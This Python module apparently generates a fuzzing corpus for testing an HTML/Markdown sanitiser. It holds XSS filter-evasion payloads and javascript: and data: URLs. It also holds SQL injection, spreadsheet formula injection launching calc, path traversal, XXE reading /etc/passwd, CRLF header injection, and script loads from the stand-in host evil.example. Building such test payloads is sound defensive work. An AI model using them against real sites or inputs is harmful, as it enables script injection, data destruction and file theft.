"""More than a thousand strings that have made browsers run what a stranger typed, made from their families.

The families are those of the OWASP cheat sheet on filter evasion and of the advisories of peers: tags with
handlers, addresses with code, broken and doubled markup, encodings, breaking out of attributes, templates,
Markdown that turns into one of these. Nothing in them reaches any host but example domains.
"""

from itertools import product
from typing import Final

_HANDLERS: Final = (
    "onerror",
    "onload",
    "onclick",
    "onfocus autofocus tabindex=1 onfocus",
    "ontoggle",
    "ONMOUSEOVER",
)
_TAGS: Final = (
    "img src=x", "svg", "body", "input", "details open", "video><source", "audio src=x", "iframe", "math",
    "marquee", "select", "textarea", "keygen", "object data=x", "embed src=x", "isindex type=image", "a", "b", "x",
)  # fmt: skip
_GAPS: Final = (" ", "/", "\n", "\t", "\x0c", "%0a", "\xa0", " /x=1 ")
_CODE: Final = ("alert(1)", "'alert(1)'", '"alert(1)"', "alert`1`", "&#97;lert(1)", "\\u0061lert(1)")

_SCHEMES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:x",
    "javascript://example.org/%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "file:///etc/passwd",
    "blob:https://evil.example/1", "//evil.example", "/\\evil.example", "https:evil.example", "\\\\evil.example",
    "http:/\\evil.example", "javascript\u200b:alert(1)", "\u202ejavascript:alert(1)", "ｊavascript:alert(1)",
    "http://a\" onmouseover=\"alert(1)", "http://a' onmouseover='alert(1)", "mailto:a\"onclick=alert(1)//@b.example",
    "http://a>\"><script>alert(1)</script>", "http://a&quot;onclick=alert(1)", "x:alert(1)", "cid:1", "tel:1", "#x",
)  # fmt: skip
_LINKS: Final = (
    "[hier](%s)", "[hier](<%s>)", "![hier](%s)", "<%s>", "[hier]: %s\n\n[hier]", "[hier](%s \"x\")", "[![a](%s)](%s)",
    "[x]( %s)", "<a href=\"%s\">hier</a>", "<a href=%s>hier</a>", "<form action='%s'><button>", "<iframe src=\"%s\">",
    "<base href=\"%s\">", "<meta http-equiv=refresh content=\"0;url=%s\">", "<link rel=stylesheet href=\"%s\">",
)  # fmt: skip

_WHOLE: Final = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>", "<script/x>alert(1)</script>", "<script\x00>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>", "</script><script>alert(1)</script>", "\\<script>alert(1)\\</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>", "<style>@import'//evil.example';</style>",
    "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">",
    "<svg><script>alert&#40;1)</script>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">", "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "¼script¾alert(1)¼/script¾",
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{% include 'base.html' %}",
    "%(name)s %s %n", "{0.__class__.__mro__}", "$(alert(1))", "`alert(1)`", "{{=alert(1)=}}", "[[${7*7}]]",
    "@{alert(1)}",
    "' OR '1'='1", "'; DROP TABLE comments; --", "\" OR 1=1 --", "1); DELETE FROM comments; --", "' UNION SELECT 1 --",
    "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=HYPERLINK(\"//evil.example\",\"x\")", " =1+1",
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file\x00.txt", "CON", "a\r\nSet-Cookie: x=1",
    "a\r\n\r\n<script>alert(1)</script>", "x%0d%0aLocation:%20//evil.example", "\u2028alert(1)\u2029", "]]>",
    "-->", "*/",
    "~~~\"><script>alert(1)</script>\nx\n~~~", "```js\" onclick=\"alert(1)\nx\n```", "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>", "*<img src=x onerror=alert(1)>*",
    "`<img src=x onerror=alert(1)>`", "**[<img src=x onerror=alert(1)>](http://a.example)**", "[^1]\n\n[^1]: <script>",
    "[<script>alert(1)</script>](http://a.example)", "::: case <script>alert(1)</script>\nx\n:::",
    "| <script> |\n| - |",
)  # fmt: skip
_OUT_OF: Final = (
    '">',
    "'>",
    '"/>',
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "\u2028",
    "\0",
)


def payloads() -> list[str]:
    """All of them, each once, in an order that stays."""
    tags = (
        f"<{tag}{gap}{handler}={_CODE[number % len(_CODE)]}>"
        for number, (tag, handler, gap) in enumerate(product(_TAGS, _HANDLERS, _GAPS[:3]))
    )
    gaps = (f"<img{gap}src=x{gap}onerror={code}>" for gap, code in product(_GAPS, _CODE))
    links = (link.replace("%s", scheme) for link, scheme in product(_LINKS, _SCHEMES))
    broken_out = (out + whole for out, whole in product(_OUT_OF, _WHOLE[:12]))
    return list(dict.fromkeys([*_WHOLE, *_SCHEMES, *tags, *gaps, *links, *broken_out]))
